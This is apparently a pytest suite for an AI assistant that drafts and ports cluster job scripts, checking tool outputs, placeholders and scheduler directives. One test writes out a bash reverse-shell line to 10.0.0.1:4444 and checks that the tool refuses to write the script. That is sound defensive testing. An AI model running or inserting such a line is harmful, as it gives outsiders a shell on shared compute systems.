"""A machine that nobody described, led by a model: the tools work on its draft as on any other machine."""

from __future__ import annotations

import pytest
from player import Player, Thread, call

from graph.conversing.guard import UNDESCRIBED
from graph.undescribed import is_stand_in

ASKED = "I need a pytorch ddp script on our cluster called Titania, slurm, 2 nodes with 4 A100 each, train.py, 2 hours"
SINFO = "PARTITION AVAIL  TIMELIMIT  NODES  STATE NODELIST\ngpu_long*    up 3-00:00:00     12   idle g[001-012]\n"


def drafted(*moves: object) -> Thread:
    thread = Thread(Player("[[rules]]", *moves))  # type: ignore[arg-type]
    thread.say(ASKED)
    assert "--nodes=2" in thread.script
    return thread


def answers(thread: Thread) -> list[str]:
    return [one.text for one in thread.player.asked[-1] if one.role == "tool"]


def test_every_tool_works_on_the_draft() -> None:
    calls = [
        call("cluster_facts", machine="Titania", about=["queues"]),
        call("check_script"),
        call("edit_script", fields={"nodes": "3"}),
        call("mend_script"),
        call("plan_resources", model="7B", machines=["titania"]),
    ]
    thread = drafted(calls, "Done.")
    thread.say("make it 3 nodes; does a 7B model fit, and what is still open?")
    facts, checked, edited, mended, plan = answers(thread)
    assert "`sinfo -o '%P %l %D %G'`" in facts and "clusters discover" in facts
    assert "YOUR_ACCOUNT" in checked and "`sinfo" in checked
    assert "--nodes=3" in edited and "--nodes=3" in thread.script
    assert "placeholder" in mended and "A100" in plan
    assert not any("is known" in one for one in (facts, checked, edited, mended, plan))


def test_a_new_script_and_a_port_go_to_a_machine_that_was_only_told_of() -> None:
    asked = "deepspeed zero2 on Titania (our slurm cluster, 4 A100 a node), 2 nodes, a.py"
    written = call("write_script", machine="Titania", framework="deepspeed", strategy="zero2", nodes=2, entry="a.py")
    thread = Thread(Player(written, "Below."))
    told = thread.say(asked)
    assert "--nodes=2" in thread.script and "YOUR_PARTITION" in thread.script and "clusters discover" in told
    cluster = thread.context.cluster(thread.state["request"])
    assert cluster and is_stand_in(cluster) and cluster.title == "Titania"
    thread.player.moves = [call("port_script", machine="perlmutter"), "Ported."]
    thread.say("and the same on perlmutter")
    assert "--constraint=gpu" in thread.script and not thread.state["request"].site_words


def test_a_slip_of_a_known_name_and_an_invented_one_are_no_machines() -> None:
    calls = [call("cluster_facts", machine="perlmuter"), call("cluster_facts", machine="Oberon")]
    thread = drafted(calls, "No.")
    thread.say("and on perlmuter?")
    slip, invented = answers(thread)
    assert "near: perlmutter" in slip and "no machine 'Oberon' is known" in invented


@pytest.mark.parametrize(
    ("directive", "submit"),
    [
        ("#$ -l gpu=2", "qsub"),
        ("#$ -l node_f=2", "qsub -g YOUR_GROUP"),
        ("#PJM -L node=2", "pjsub"),
        ("# nothing", "bash"),
    ],
)
def test_a_script_of_a_scheduler_that_no_reader_knows_is_handed_over_right(directive: str, submit: str) -> None:
    text = f"#!/bin/bash\n{directive}\npython3 train.py\n"
    thread = Thread(Player(call("write_script", machine="Titania", text=text), "Done."))
    told = thread.say("on our machine Titania: python3 train.py")
    assert f"{submit} titania.sh" in told


def test_a_short_name_like_part_of_another_is_its_own() -> None:
    text = "#!/bin/bash\n#SBATCH -N 2\n#SBATCH -p ampere\nsrun python train.py\n"
    thread = Thread(Player(call("write_script", machine="CSD3", text=text), "Done."))
    thread.say("I am on CSD3, the ampere partition: 2 nodes, train.py")
    assert "#SBATCH -p ampere" in thread.script


def test_its_own_queues_are_named_without_a_mark() -> None:
    """Those that its scheduler printed or its person named; of one that nobody named one line tells that it is
    unproved, where the words do not."""
    line = UNDESCRIBED.format("Titania")
    said = "Take the queue `gpu_long`, 12 nodes for 3 days."
    for more, marked in (
        ("", False),
        (" The queue `golden` would be faster.", True),
        (" I am not sure of `golden_q`.", False),
    ):
        told = drafted(said + more).say(f"which partition?\n```\n{SINFO}```")
        assert (line in told) is marked and "Not in our pages" not in told


def test_the_head_of_a_script_says_no_more_than_is_known() -> None:
    assert "(4 A100 GPUs a node, one rank each)" in drafted().script
    two = call("write_script", machine="snellius", entry="fit.py", strategy="none", nodes=1, gpus_per_node=2)
    thread = Thread(Player(two, "[[T1]]"))
    thread.say("fit.py on Snellius, one node with 2 GPUs, no parallel strategy")
    assert "Snellius: PyTorch, one process with 2 GPUs." in thread.script
    assert thread.state["bundle"].name == "snellius-pytorch.sh"


@pytest.mark.parametrize("framework", ["ray", "vllm"])
def test_several_nodes_wait_for_the_first_ones_port_and_each_module_is_loaded(framework: str) -> None:
    fields = {"modules": "gcc/12, cuda/12.4", "environment": "myenv"}
    write = call(
        "write_script", machine="Titania", framework=framework, nodes=3, gpus_per_node=4, queue="gpu_long",
        walltime="08:00:00", entry="tune.py", more_fields=fields,
    )  # fmt: skip
    thread = Thread(Player(write, "Below."))
    thread.say(f"{framework} on our slurm cluster Titania, gpu_long: 3 nodes, 4 A100 each, tune.py, 8 hours")
    assert "/dev/tcp/" in thread.script and "module load gcc/12 cuda/12.4" in thread.script


def test_a_shell_on_a_connection_is_refused() -> None:
    text = "#!/bin/bash\n#SBATCH -N 1\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\npython train.py\n"
    thread = Thread(Player(call("write_script", machine="Titania", text=text), "No."))
    thread.say("python train.py on our slurm machine Titania")
    assert not thread.script and "way in from outside" in answers(thread)[0]


def test_a_machines_scheduler_is_told_by_the_script_that_runs_there() -> None:
    script = "#!/bin/bash\n#PBS -q gpuvolta\n#PBS -l ncpus=48,ngpus=4\n#PBS -l walltime=4:00:00\npython t.py\n"
    thread = Thread(Player(call("cluster_facts", machine="derecho"), "Fine."))
    thread.say(f"my script for derecho\n```bash\n{script}```\nis it fine?")
    assert "derecho, under pbs" in thread.player.asked[-1][-1].text
    thread = Thread(Player(call("port_script", machine="Zephyr"), "Ported."))
    thread.say(f"port this to our cluster Zephyr\n```bash\n{script}```")
    assert "#SBATCH" in thread.script, "what it ran on tells nothing of where it goes"
